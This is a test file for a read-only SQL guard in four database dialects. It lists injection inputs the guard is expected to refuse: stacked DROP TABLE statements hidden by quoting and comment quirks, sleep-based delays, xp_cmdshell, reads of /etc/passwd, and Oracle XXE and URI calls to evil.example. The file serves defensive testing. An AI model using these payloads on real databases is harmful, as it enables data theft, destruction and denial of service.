import { describe, expect, it } from 'vitest';
import { DIALECT_RULES } from '../src/guard/dialects.js';
import { checkReadOnlySql } from '../src/guard/index.js';
import { SIDE_EFFECT_FUNCTIONS } from '../src/guard/side-effect-functions.js';
import { COMMON_REFUSED_HEADS, COMMON_REFUSED_SEQUENCES } from '../src/guard/statement-rules.js';
import { DIALECTS, type Dialect } from '../src/model.js';

/**
 * The first entries for the dialects whose guard a later issue completes: their quoting and
 * comment rules and the deny-lists we are confident of. SQLite and standard SQL are in guard.test.ts.
 */

function verdict(sql: string, dialect: Dialect): string {
  const result = checkReadOnlySql(sql, dialect);
  return result.isOk() ? `ok:${result.value.statementKind}` : result.error.kind;
}

const CASES: Record<Exclude<Dialect, 'sqlite'>, readonly (readonly [string, string])[]> = {
  postgres: [
    ['TABLE t', 'ok:table'],
    ['SHOW search_path', 'ok:show'],
    ['EXPLAIN SELECT 1', 'ok:explain'],
    ['EXPLAIN ANALYZE SELECT * FROM t', 'ok:explain'],
    ['EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) SELECT 1', 'ok:explain'],
    ['EXPLAIN ANALYZE DELETE FROM t', 'ReadOnlyViolation'],
    ['EXPLAIN (ANALYZE) UPDATE t SET a = 1', 'ReadOnlyViolation'],
    ["SELECT $$it's; DROP TABLE t$$", 'ok:select'],
    ['SELECT $tag$ $$ ; $tag$', 'ok:select'],
    ["SELECT E'it\\'s; DROP'", 'ok:select'],
    ["SELECT 'a' || E'\\\\'", 'ok:select'],
    ['SELECT 1 /* outer /* inner */ still comment; DROP TABLE t */', 'ok:select'],
    ['SELECT a::text, arr[1], $1 FROM t', 'ok:select'],
    ['SELECT 1 /* /* */', 'InvalidInput'],
    // Under standard_conforming_strings = off the first string ends later and hides a second statement.
    ["SELECT 'x\\'' ; DROP TABLE t; -- '", 'ReadOnlyViolation'],
    ["SELECT E'x\\'' ; DROP TABLE t; -- '", 'ReadOnlyViolation'],
    ['SELECT pg_sleep(10)', 'ReadOnlyViolation'],
    ["SELECT pg_catalog.pg_sleep_for('1 minute')", 'ReadOnlyViolation'],
    ['SELECT "pg_sleep"(1)', 'ReadOnlyViolation'],
    ["SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", 'ReadOnlyViolation'],
    ["SELECT dblink_exec('drop table t')", 'ReadOnlyViolation'],
    ["SELECT lo_import('/etc/passwd')", 'ReadOnlyViolation'],
    ['SELECT pg_terminate_backend(123)', 'ReadOnlyViolation'],
    ['SELECT pg_cancel_backend(123)', 'ReadOnlyViolation'],
    ["SELECT set_config('default_transaction_read_only', 'off', false)", 'ReadOnlyViolation'],
    ['SELECT pg_advisory_lock(1)', 'ReadOnlyViolation'],
    ['SELECT pg_try_advisory_xact_lock(1)', 'ReadOnlyViolation'],
    ["SELECT pg_read_file('postgresql.conf')", 'ReadOnlyViolation'],
    ["SELECT * FROM pg_ls_dir('.')", 'ReadOnlyViolation'],
    ["SELECT nextval('s')", 'ReadOnlyViolation'],
    ["SELECT setval('s', 1)", 'ReadOnlyViolation'],
    ['SELECT pg_reload_conf()', 'ReadOnlyViolation'],
    ["SELECT query_to_xml('delete from t', true, true, '')", 'ReadOnlyViolation'],
    ["SELECT * FROM ts_stat('SELECT v FROM docs')", 'ReadOnlyViolation'],
    ["SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", 'ReadOnlyViolation'],
    ['DO $$ BEGIN DELETE FROM t; END $$', 'ReadOnlyViolation'],
    ['COPY (SELECT 1) TO STDOUT', 'ReadOnlyViolation'],
    ['LISTEN ch', 'ReadOnlyViolation'],
    ['SELECT * FROM t FOR KEY SHARE', 'ReadOnlyViolation'],
    ["SELECT currval('s'), lastval(), pg_typeof(1), pg_size_pretty(1)", 'ok:select'],
    // U&"…" names are compared decoded: U&"pg_sle\0065p" is pg_sleep to the server.
    ['SELECT U&"pg_sle\\0065p"(5)', 'ReadOnlyViolation'],
    ['SELECT u&"PG_SLEE\\+000070"(5)', 'ReadOnlyViolation'],
    ['SELECT U&"pg_sle!0065p" UESCAPE \'!\' (5)', 'ReadOnlyViolation'],
    ['SELECT U&"d\\0061ta", U&"plain" FROM t', 'ok:select'],
    ["SELECT U&'d\\0061ta; DROP TABLE t'", 'ok:select'],
    // PostgreSQL ends a line comment at a bare CR too, so the quote after it opens a string.
    ["SELECT 1 -- x\r'; DROP TABLE t; '", 'ok:select'],
    ['SELECT pg_stat_statements_reset()', 'ReadOnlyViolation'],
    ["SELECT pg_background_launch('delete from t')", 'ReadOnlyViolation'],
    ['SELECT 1 FROM t AS x(pg_background, pg_stat_statements)', 'ok:select'],
    ["SELECT pg_file_sync('x')", 'ReadOnlyViolation'],
    ['SELECT (rec).delete, (rec).pg_sleep, "t".update FROM t', 'ok:select'],
    ["SELECT gin_clean_pending_list('gi')", 'ReadOnlyViolation'],
    ["SELECT brin_summarize_new_values('bi'), brin_desummarize_range('bi', 0)", 'ReadOnlyViolation'],
    ['SELECT txid_current()', 'ReadOnlyViolation'],
    ['SELECT txid_current_if_assigned(), pg_current_xact_id_if_assigned(), txid_current FROM t', 'ok:select'],
    ['SELECT pg_switch_xlog()', 'ReadOnlyViolation'],
    ['SELECT * FROM pg_file_settings', 'ok:select'],
  ],
  mysql: [
    ['SHOW TABLES', 'ok:show'],
    ['TABLE t', 'ok:table'],
    ['DESCRIBE t', 'ok:describe'],
    ['DESC `my table`', 'ok:describe'],
    ['DESCRIBE SELECT 1', 'ok:explain'],
    ['EXPLAIN FORMAT=JSON SELECT 1', 'ok:explain'],
    ['EXPLAIN ANALYZE SELECT 1', 'ok:explain'],
    ["SELECT 'O''Brien', `a;b` FROM t # comment", 'ok:select'],
    ['SELECT 1--1', 'ok:select'],
    ['SELECT @x, @@version', 'ok:select'],
    // MySQL reads `--x` as two minus signs, so the `;` is code, not comment.
    ['SELECT 1 --x; DROP TABLE t', 'ReadOnlyViolation'],
    ['SELECT 1 # ; \n; DROP TABLE t', 'ReadOnlyViolation'],
    ['SELECT 1 /*! ; DROP TABLE t */', 'ReadOnlyViolation'],
    ['SELECT 1 /*!50000 , sleep(5) */', 'ReadOnlyViolation'],
    // Backslash escapes on (default) vs NO_BACKSLASH_ESCAPES: each reading must be one statement.
    ["SELECT 'a\\'; DROP TABLE t; -- '", 'ReadOnlyViolation'],
    ["SELECT 'a\\\\'; DROP TABLE t; -- '", 'ReadOnlyViolation'],
    ["SELECT 'O\\'Brien'", 'InvalidInput'],
    ['SELECT sleep(5)', 'ReadOnlyViolation'],
    ['SELECT BENCHMARK(1000000, md5(1))', 'ReadOnlyViolation'],
    ["SELECT get_lock('x', 10)", 'ReadOnlyViolation'],
    ["SELECT load_file('/etc/passwd')", 'ReadOnlyViolation'],
    ['SELECT `sleep`(1)', 'ReadOnlyViolation'],
    ['SELECT "sleep"(1)', 'ReadOnlyViolation'],
    ['HANDLER t OPEN', 'ReadOnlyViolation'],
    ['FLUSH TABLES', 'ReadOnlyViolation'],
    ["LOAD DATA INFILE '/tmp/x' INTO TABLE t", 'ReadOnlyViolation'],
    ['DESCRIBE DELETE FROM t', 'ReadOnlyViolation'],
    // MariaDB 10.11 runs `#` and `-- ` comments on past a bare CR to the LF (checked), so the quote
    // in the comment hides nothing and the `;` after the LF starts a second statement.
    ["SELECT 1 # \r' \n ; SELECT 2 -- '", 'ReadOnlyViolation'],
    ["SELECT 1 -- \r' \n ; DROP TABLE t -- '", 'ReadOnlyViolation'],
    ['SELECT 1 # x\r; DROP TABLE t', 'ok:select'],
    // User variables outlive the query on a pooled connection: assignment is refused, reading is not.
    ['SELECT @x := 1', 'ReadOnlyViolation'],
    ['SELECT @rn:=@rn+1 AS rn, a FROM t', 'ReadOnlyViolation'],
    ["SELECT @'x' := 1", 'ReadOnlyViolation'],
    ['SELECT `a` FROM t WHERE @x : = 1', 'ReadOnlyViolation'],
    ['SELECT a FROM t INTO @x', 'ReadOnlyViolation'],
    ['SELECT a INTO @x FROM t', 'ReadOnlyViolation'],
    ['SELECT @x = 1, @x, @@session.sql_mode', 'ok:select'],
    ["SELECT ':=', '@x := 1', `a:=b` FROM t -- := ", 'ok:select'],
    ['SELECT row_number() OVER (ORDER BY a) AS rn, a FROM t', 'ok:select'],
    // Optimizer hints that lift the statement timeout or set variables for the query.
    ['SELECT /*+ MAX_EXECUTION_TIME(0) */ sum(a) FROM t', 'ReadOnlyViolation'],
    ["SELECT /*+ set_var(sql_mode='') */ 1", 'ReadOnlyViolation'],
    ['SELECT /*+ BKA(t) NO_ICP(t) */ a FROM t', 'ok:select'],
    ['SELECT /* MAX_EXECUTION_TIME is only a word in an ordinary comment */ 1', 'ok:select'],
    // MariaDB sequences.
    ['SELECT NEXTVAL(s)', 'ReadOnlyViolation'],
    ['SELECT NEXT VALUE FOR s', 'ReadOnlyViolation'],
    ['SELECT setval(s, 10)', 'ReadOnlyViolation'],
    ['SELECT PREVIOUS VALUE FOR s, LASTVAL(s), next_value FROM t', 'ok:select'],
    ["SELECT master_gtid_wait('0-1-100', 10)", 'ReadOnlyViolation'],
    // MariaDB sql_mode ORACLE: `seq.nextval` advances the sequence without parentheses.
    ['SELECT s.nextval', 'ReadOnlyViolation'],
    ['SELECT s.currval, t.nextval_at, db.t.x FROM t', 'ok:select'],
    ['SELECT 1 .sleep(5)', 'ReadOnlyViolation'],
    // MariaDB sql_mode MSSQL (checked on 10.11) quotes names in [..], ]] escaping ]: what is a
    // string elsewhere is a name and a second statement there.
    ["SELECT 1 AS [']; DROP TABLE t; -- ']", 'ReadOnlyViolation'],
    ["SELECT 1 AS [a]]']; DROP TABLE t; -- ']", 'ReadOnlyViolation'],
    ["SELECT 1 AS [a]]'], 2 AS [b']", 'ok:select'],
    ["SELECT JSON_EXTRACT(doc, '$[0]') AS [first], `x[1]` FROM t", 'ok:select'],
    ['SELECT a FROM t PROCEDURE ANALYSE()', 'ReadOnlyViolation'],
    ["SELECT service_get_write_locks('ns', 'lock1', 10)", 'ReadOnlyViolation'],
    ["SELECT audit_log_filter_remove_user('%')", 'ReadOnlyViolation'],
    ["SELECT keyring_key_remove('k', '')", 'ReadOnlyViolation'],
    ['SELECT audit_log_id, keyring_key_count, service_get_x FROM t', 'ok:select'],
  ],
  mssql: [
    ['SELECT [a;b], [x]]y] FROM [dbo].[t]', 'ok:select'],
    ["SELECT N'it''s' FROM t WHERE a = @p", 'ok:select'],
    ['SELECT TOP 10 * FROM t FOR JSON PATH', 'ok:select'],
    ['SELECT 1 /* outer /* inner */ still; DROP TABLE t */', 'ok:select'],
    // T-SQL needs no semicolon between statements.
    ['SELECT 1 DROP TABLE t', 'ReadOnlyViolation'],
    ["SELECT 1 EXEC xp_cmdshell 'dir'", 'ReadOnlyViolation'],
    ['SELECT 1 DELETE FROM t', 'ReadOnlyViolation'],
    ["SELECT 1 WAITFOR DELAY '00:00:05'", 'ReadOnlyViolation'],
    ["WAITFOR DELAY '00:00:05'", 'ReadOnlyViolation'],
    ["EXEC sp_executesql N'DELETE FROM t'", 'ReadOnlyViolation'],
    ['sp_who', 'ReadOnlyViolation'],
    ["SELECT * FROM OPENROWSET(BULK 'c:\\x', SINGLE_CLOB) AS x", 'ReadOnlyViolation'],
    ["SELECT * FROM OPENQUERY(srv, 'select 1')", 'ReadOnlyViolation'],
    ["SELECT master.dbo.xp_fileexist('c:\\x')", 'ReadOnlyViolation'],
    ["SELECT * FROM master..fn_get_audit_file('x', DEFAULT, DEFAULT)", 'ReadOnlyViolation'],
    ["SELECT master..xp_fileexist('c:\\x')", 'ReadOnlyViolation'],
    ['SELECT * FROM master..sysdatabases', 'ok:select'],
    ["SELECT $ .xp_cmdshell('dir')", 'ReadOnlyViolation'],
    ['SELECT * FROM t WITH (UPDLOCK)', 'ReadOnlyViolation'],
    ['SELECT * INTO #tmp FROM t', 'ReadOnlyViolation'],
    ['SELECT NEXT VALUE FOR s', 'ReadOnlyViolation'],
    ['DBCC CHECKDB', 'ReadOnlyViolation'],
    // A second statement needs no semicolon in T-SQL: every statement start is found.
    ['SELECT 1 SELECT 2', 'ReadOnlyViolation'],
    ['SELECT a FROM t SELECT b FROM u', 'ReadOnlyViolation'],
    ['SELECT a FROM t WHERE a IN (1, 2) SELECT 2', 'ReadOnlyViolation'],
    ['SELECT 1 (SELECT 2)', 'ReadOnlyViolation'],
    ['(SELECT 1) (SELECT 2)', 'ReadOnlyViolation'],
    ['SELECT 1 x ((SELECT 2))', 'ReadOnlyViolation'],
    ['SELECT 1 AS x ((SELECT 2))', 'ReadOnlyViolation'],
    ["SELECT CASE WHEN a = 1 THEN 'x' END (SELECT 2) FROM t", 'ReadOnlyViolation'],
    ['SELECT $ (SELECT 2)', 'ReadOnlyViolation'],
    ['SELECT 1 x: SELECT 2', 'ReadOnlyViolation'],
    ['SELECT 1 WITH x AS (SELECT 2) SELECT * FROM x', 'ReadOnlyViolation'],
    ["SELECT * FROM t WAITFOR DELAY '0:0:5'", 'ReadOnlyViolation'],
    ['SELECT 1 PRINT 1', 'ReadOnlyViolation'],
    ["SELECT 1 RAISERROR('x', 16, 1) WITH LOG", 'ReadOnlyViolation'],
    ['SELECT 1 WHILE 1 = 1 SELECT 1', 'ReadOnlyViolation'],
    ["SELECT 1 IF 1 = 1 WAITFOR DELAY '0:0:5'", 'ReadOnlyViolation'],
    ['SELECT 1 KILL 52', 'ReadOnlyViolation'],
    ['SELECT 1 SHUTDOWN WITH NOWAIT', 'ReadOnlyViolation'],
    ['SELECT 1 USE master', 'ReadOnlyViolation'],
    ['SELECT 1 CHECKPOINT', 'ReadOnlyViolation'],
    ["SELECT 1 BACKUP DATABASE d TO DISK = 'x'", 'ReadOnlyViolation'],
    ['SELECT 1 FETCH NEXT FROM c', 'ReadOnlyViolation'],
    ['SELECT 1 REVERT', 'ReadOnlyViolation'],
    ['SELECT 1 GOTO l', 'ReadOnlyViolation'],
    ['SELECT 1 DISABLE TRIGGER tr ON t', 'ReadOnlyViolation'],
    ['SELECT 1 END CONVERSATION @h', 'ReadOnlyViolation'],
    // Adversarial corpus ADV-G2: the other Service Broker statements, and file-system DMFs.
    ["SELECT 1 SEND ON CONVERSATION @h (N'x')", 'ReadOnlyViolation'],
    ['SELECT 1 RECEIVE TOP (1) * FROM q', 'ReadOnlyViolation'],
    ['SELECT 1 MOVE CONVERSATION @h TO @g', 'ReadOnlyViolation'],
    ['SELECT 1 GET CONVERSATION GROUP @g FROM q', 'ReadOnlyViolation'],
    ["SELECT * FROM sys.dm_os_enumerate_filesystem('C:\\', '*')", 'ReadOnlyViolation'],
    ["SELECT sys.dm_os_file_exists('C:\\x')", 'ReadOnlyViolation'],
    ['SELECT send_date, received, [receive], t.receive, x AS receive, get_count FROM t', 'ok:select'],
    ['SELECT * FROM sys.dm_os_volume_stats(1, 1)', 'ok:select'],
    // `$.` is a money literal, so DELETE after it is not a column: reserved words are never names.
    ['SELECT $. DELETE FROM t', 'ReadOnlyViolation'],
    ["SELECT $. WAITFOR DELAY '0:0:5'", 'ReadOnlyViolation'],
    ['SELECT 1 AS PRINT', 'ReadOnlyViolation'],
    // SQL Server's handling of a bare CR in a comment is not documented: the text must pass both ways.
    ["SELECT 1 -- x\r'\n; DROP TABLE t -- '", 'ReadOnlyViolation'],
    ['SELECT 1 -- x\r; DROP TABLE t', 'ReadOnlyViolation'],
    ["SELECT 1 -- x\r'; DROP TABLE t; '", 'ok:select'],
    // …while one query with subqueries, derived tables and paging stays one statement.
    ['SELECT a FROM t UNION SELECT b FROM u UNION ALL SELECT c FROM v EXCEPT SELECT d FROM w', 'ok:select'],
    ['(SELECT a FROM t) UNION (SELECT b FROM u) INTERSECT (SELECT c FROM v)', 'ok:select'],
    ['SELECT (SELECT 1), COUNT((SELECT 1)), dbo.f((SELECT 2)), [dbo].[f]((SELECT 3)) FROM t', 'ok:select'],
    ["SELECT STUFF((SELECT ',' + name FROM t FOR XML PATH('')), 1, 1, '') AS names", 'ok:select'],
    ['SELECT * FROM t CROSS APPLY (SELECT TOP 1 b FROM u) x OUTER APPLY (SELECT 1 c) y', 'ok:select'],
    [
      'SELECT * FROM t JOIN (SELECT 1 a) s ON s.a = t.a WHERE EXISTS (SELECT 1) AND a > ALL (SELECT 1)',
      'ok:select',
    ],
    ['SELECT CASE WHEN (SELECT 1) = 1 THEN (SELECT 2) ELSE (SELECT 3) END', 'ok:select'],
    ['SELECT TOP (SELECT 5) a FROM t ORDER BY (SELECT NULL)', 'ok:select'],
    ['SELECT TOP (10) (SELECT name FROM u WHERE u.id = t.uid) AS uname FROM t', 'ok:select'],
    ['SELECT DISTINCT TOP (5) WITH TIES (SELECT 1) AS one FROM t ORDER BY a', 'ok:select'],
    ['SELECT TOP 10 (SELECT 1) AS one, TOP10 FROM t', 'ok:select'],
    ['SELECT a FROM t ORDER BY 1 (SELECT 2)', 'ReadOnlyViolation'],
    ['SELECT a FROM t WHERE a IN (1) (SELECT 2)', 'ReadOnlyViolation'],
    ['SELECT COUNT(a) (SELECT 2) FROM t', 'ReadOnlyViolation'],
    ['SELECT a FROM t ORDER BY a OFFSET 10 ROWS FETCH NEXT 5 ROWS ONLY', 'ok:select'],
    ['SELECT a FROM t ORDER BY a OFFSET 0 ROWS FETCH FIRST 1 ROW ONLY', 'ok:select'],
    ["SELECT a FROM t OPTION (USE HINT ('DISABLE_OPTIMIZER_ROWGOAL'), MAXDOP 1)", 'ok:select'],
    ['SELECT a FROM (VALUES ((SELECT 1)), (2)) v(a)', 'ok:select'],
    ['WITH x AS (SELECT 1 a), y (b) AS (SELECT a FROM x) SELECT b FROM y', 'ok:with'],
    ['WITH x AS (SELECT 1 a) (SELECT a FROM x) UNION (SELECT 2)', 'ok:with'],
    ["WITH XMLNAMESPACES ('urn:x' AS ns) SELECT 1 FOR XML RAW", 'ok:with'],
    [';WITH x AS (SELECT 1 a) SELECT a FROM x', 'ok:with'],
    ['SELECT t.[update], [delete], "print" FROM t WITH (NOLOCK)', 'ok:select'],
    ['SELECT printed, if_flag, while_count, kill_date, use_count, enable_x FROM t', 'ok:select'],
  ],
  oracle: [
    ["SELECT q'[it's; DROP TABLE t]' FROM dual", 'ok:select'],
    ['SELECT a#b, c$d FROM t WHERE x = :1', 'ok:select'],
    ['SELECT dbms_lob.getlength(doc), dbms_random.value FROM t', 'ok:select'],
    ["SELECT q'[x]'; DROP TABLE t; --]' FROM dual", 'ReadOnlyViolation'],
    ['SELECT dbms_lock.sleep(5) FROM dual', 'ReadOnlyViolation'],
    ["SELECT SYS.DBMS_PIPE.RECEIVE_MESSAGE('x', 10) FROM dual", 'ReadOnlyViolation'],
    ["SELECT utl_http.request('http://x') FROM dual", 'ReadOnlyViolation'],
    ['SELECT utl_inaddr.get_host_name FROM dual', 'ReadOnlyViolation'],
    ["SELECT httpuritype('http://x').getclob() FROM dual", 'ReadOnlyViolation'],
    ['SELECT s.nextval FROM dual', 'ReadOnlyViolation'],
    ['SELECT utl_code, nextval FROM t', 'ok:select'],
    // A bare qualified name's last part is a column unless it is a whole deny-listed name.
    ['SELECT t.dbms_flag, t.utl_code, t.sleep_ms FROM t', 'ok:select'],
    ['SELECT SYS.DBMS_LOCK.SLEEP FROM dual', 'ReadOnlyViolation'],
    ['SELECT t."nextval" FROM t', 'ok:select'],
    ["SELECT * FROM TABLE(dbms_xplan.display_cursor(NULL, NULL, 'ALL'))", 'ok:select'],
    ["SELECT dbms_metadata.get_ddl('TABLE', 'T'), dbms_assert.enquote_name('x') FROM dual", 'ok:select'],
    ["SELECT ctxsys.drithsx.sn(1, 'grant dba to x') FROM dual", 'ReadOnlyViolation'],
    ["SELECT SYS.KUPP$PROC.CREATE_MASTER_PROCESS('x') FROM dual", 'ReadOnlyViolation'],
    // Adversarial corpus ADV-G1: URI types and XXE reach the network or files from a SELECT.
    ["SELECT URIFACTORY.GETURI('http://evil.example/').GETCLOB() FROM dual", 'ReadOnlyViolation'],
    ["SELECT XDBURITYPE('/public/secret.txt').GETCLOB() FROM dual", 'ReadOnlyViolation'],
    ["SELECT DBURITYPE('/HR/EMPLOYEES').GETCLOB() FROM dual", 'ReadOnlyViolation'],
    [
      `SELECT EXTRACTVALUE(xmltype('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>'), '/l') FROM dual`,
      'ReadOnlyViolation',
    ],
    ["SELECT xmltype('<!doctype r []><r/>') FROM dual", 'ReadOnlyViolation'],
    ["SELECT ORDSYS.ORD_DICOM.GETMAPPINGXPATH('x', 'y', 'z') FROM dual", 'ReadOnlyViolation'],
    // ADV-G3: XQuery functions that read the XML DB repository by path.
    [`SELECT XMLQUERY('fn:doc("/public/secret.xml")' RETURNING CONTENT) FROM dual`, 'ReadOnlyViolation'],
    [`SELECT * FROM XMLTABLE('fn:collection("/public")' COLUMNS x CLOB PATH '.')`, 'ReadOnlyViolation'],
    [`SELECT XMLQUERY('doc ( "/public/x.xml" )/r' RETURNING CONTENT) FROM dual`, 'ReadOnlyViolation'],
    ['SELECT XMLQUERY(\'ora:view("HR", "EMP")\' RETURNING CONTENT) FROM dual', 'ReadOnlyViolation'],
    [
      "SELECT XMLQUERY('/r/l' PASSING doc RETURNING CONTENT), 'see doc(1) and mydoc(\"x\")', doc_id FROM t",
      'ok:select',
    ],
    ["SELECT SYS.LT.FINDRICSET('x', 'y') FROM dual", 'ReadOnlyViolation'],
    [
      "SELECT EXTRACTVALUE(xmltype('<r><l>1</l></r>'), '/r/l'), 'doctype <!-- -->', uri_count FROM dual",
      'ok:select',
    ],
    // A function called through a database link runs remotely, outside the read-only session.
    ['SELECT app.do_write@remote(1) FROM dual', 'ReadOnlyViolation'],
    ['SELECT f@remote.example.com(1) FROM dual', 'ReadOnlyViolation'],
    ['SELECT e.name FROM emp@remote e, dept@remote.example.com d WHERE e.dept = d.id', 'ok:select'],
    ['SELECT s."NEXTVAL" FROM dual', 'ReadOnlyViolation'],
    ['SELECT t.dbms_flag(1) FROM t', 'ReadOnlyViolation'],
    ['EXPLAIN PLAN FOR SELECT 1 FROM dual', 'ReadOnlyViolation'],
    ['BEGIN NULL; END;', 'ReadOnlyViolation'],
    ['SELECT * FROM t FOR UPDATE NOWAIT', 'ReadOnlyViolation'],
    // PL/SQL in the WITH clause (12c) may write in an autonomous transaction.
    ['WITH FUNCTION f RETURN NUMBER IS BEGIN RETURN 1; END; SELECT f FROM dual', 'ReadOnlyViolation'],
    ['WITH PROCEDURE p IS BEGIN NULL END SELECT 1 FROM dual', 'ReadOnlyViolation'],
    ['WITH f AS (SELECT 1 AS function FROM dual) SELECT * FROM f', 'ok:with'],
    // Oracle's handling of a bare CR in a comment is not documented: the text must pass both ways.
    ["SELECT 1 FROM dual -- x\r'\n; DROP TABLE t -- '", 'ReadOnlyViolation'],
  ],
};

describe('checkReadOnlySql: first entries for the other dialects', () => {
  for (const [dialect, cases] of Object.entries(CASES) as [Dialect, (typeof CASES)['postgres']][]) {
    it.each(cases)(`${dialect}: %j → %s`, (sql, expected) => {
      expect(verdict(sql, dialect)).toBe(expected);
    });
  }

  it('explains a refusal that only one server setting triggers', () => {
    const result = checkReadOnlySql("SELECT 'x\\'' ; DROP TABLE t; -- '", 'postgres');
    expect(result.isErr() && result.error.kind === 'ReadOnlyViolation' && result.error.reason).toMatch(
      /^only one statement per call .*\(Read as the server does under standard_conforming_strings = off\.\)$/,
    );
  });
});

describe('dialect rules: shape of the data', () => {
  it('has rules and at least one reading for every dialect', () => {
    for (const dialect of DIALECTS) {
      expect(DIALECT_RULES[dialect].lexModes.length, dialect).toBeGreaterThan(0);
      expect(DIALECT_RULES[dialect].functions).toBe(SIDE_EFFECT_FUNCTIONS[dialect]);
    }
  });

  it('writes keywords in upper case and function names in lower case, so comparisons can match', () => {
    const groups = [
      ...COMMON_REFUSED_HEADS,
      ...DIALECTS.flatMap((d) => [...DIALECT_RULES[d].refusedHeads, ...DIALECT_RULES[d].refusedAnywhere]),
    ];
    for (const word of groups.flatMap((group) => group.keywords)) expect(word).toBe(word.toUpperCase());
    const sequences = [
      ...COMMON_REFUSED_SEQUENCES,
      ...DIALECTS.flatMap((d) => DIALECT_RULES[d].refusedSequences),
    ];
    for (const word of sequences.flatMap((sequence) => sequence.words)) expect(word).toBe(word.toUpperCase());
    for (const group of DIALECTS.flatMap((d) => SIDE_EFFECT_FUNCTIONS[d])) {
      expect((group.names?.length ?? 0) + (group.prefixes?.length ?? 0)).toBeGreaterThan(0);
      for (const name of [...(group.names ?? []), ...(group.prefixes ?? []), ...(group.except ?? [])]) {
        expect(name).toBe(name.toLowerCase());
      }
    }
  });
});
